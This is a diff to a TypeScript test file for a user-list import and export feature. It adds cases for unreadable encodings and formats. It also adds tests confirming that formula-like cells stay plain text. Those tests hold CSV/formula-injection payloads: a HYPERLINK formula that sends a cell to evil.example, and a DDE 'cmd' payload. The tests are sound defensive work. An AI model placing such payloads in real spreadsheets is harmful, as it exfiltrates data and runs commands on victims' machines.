@@ -1,4 +1,4 @@
-import { zipSync } from 'fflate';
+import { unzipSync, zipSync } from 'fflate';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import writeXlsxFile from 'write-excel-file/node';
 import type { ImportVerdict } from '../../lib/users/import-verdict.ts';
@@ -224,6 +224,11 @@ describe('what is no list of users', () => {
       ['a package of nothing', zipSync({ 'a.txt': new Uint8Array(3) }), 'import_unreadable'],
       ['half a package', bomb.subarray(0, 100), 'import_unreadable'],
       ['bytes', new Uint8Array([0, 1, 2, 0, 0, 255]), 'import_unreadable'],
+      ['UTF-16, little end first', utf16('little'), 'import_unreadable'],
+      ['UTF-16, big end first', utf16('big'), 'import_unreadable'],
+      ['UTF-16 without its mark', utf16('little').subarray(2), 'import_unreadable'],
+      ['an old workbook', Buffer.from('d0cf11e0a1b11ae1000000000000', 'hex'), 'import_unreadable'],
+      ['a page', '<html><table><tr><td>email</td></tr></table></html>', 'import_columns'],
       ['a table without e-mails', 'name;number\nА;1', 'import_columns'],
       ['5,001 rows', many, 'import_too_many'],
       ['more than 5 MB', new Uint8Array(5 * 1024 * 1024 + 1).fill(65), 'file_too_big'],
@@ -257,6 +262,63 @@ test('two hundred rows tell how far they are', async () => {
     { done: 200, total: 200 },
   ]);
 });
+
+describe('a cell that begins like a formula', () => {
+  const CELLS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"x")',
+    '+1+1',
+    '-2+3',
+    '@SUM(A1)',
+    "=cmd|'/c calc'!A0",
+    '\u200e=1+1',
+  ] as const;
+
+  test('is a text here, and a text again in the workbook that goes out', async () => {
+    const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
+    const lines = CELLS.map(
+      (cell, index) => `f${index}@example.ru;Формула ${index};F-${index};02.03.2026;;${quoted(cell)}`,
+    );
+    const { written, verdicts } = await send('admin', 'all', csv(...lines));
+    expect([written, verdicts.map(({ outcome }) => outcome)]).toEqual([true, CELLS.map(() => 'add')]);
+    for (const [index, cell] of CELLS.entries())
+      expect((await account(`f${index}@example.ru`))?.position).toBe(cell.trim());
+    const query = new URLSearchParams({
+      object: 'employee',
+      filter: `number like 'F-%'`,
+      columns: 'number,position',
+    });
+    const response = await fetch(`${world.portal.origin}/api/export?${query}`, {
+      headers: { authorization: `Bearer ${world.token('admin')}` },
+    });
+    expect(response.status).toBe(200);
+    const parts = unzipSync(new Uint8Array(await response.arrayBuffer()));
+    const xml = Object.entries(parts)
+      .filter(([name]) => name.endsWith('.xml'))
+      .map(([, bytes]) => new TextDecoder().decode(bytes))
+      .join('');
+    expect(xml).toContain('@SUM(A1)');
+    expect(xml).not.toMatch(/<f[ >]|<hyperlink/);
+  });
+
+  test('is no e-mail, number of an organization or role', async () => {
+    const file = csv(
+      '=1+1;А;F-90;02.03.2026;;',
+      'g@example.ru;Б;F-91;=TODAY();;',
+      'h@example.ru;В;F-92;02.03.2026;=admin;',
+    );
+    expect(reasons(await send('admin', 'preview', file))).toEqual([
+      [2, 'email user/email'],
+      [3, 'hire_date field/wrong'],
+      [4, 'roles user/unknown-role'],
+    ]);
+  });
+});
+
+/** A list of users as UTF-16 with its mark, which is no encoding of ours. */
+const utf16 = (end: 'little' | 'big'): Uint8Array => {
+  const bytes = Buffer.from(`\ufeff${csv('u@example.ru;Ю;U-16;02.03.2026;;')}`, 'utf16le');
+  return new Uint8Array(end === 'little' ? bytes : bytes.swap16());
+};
 
 const text = (xml: string) => new TextEncoder().encode(xml);
 
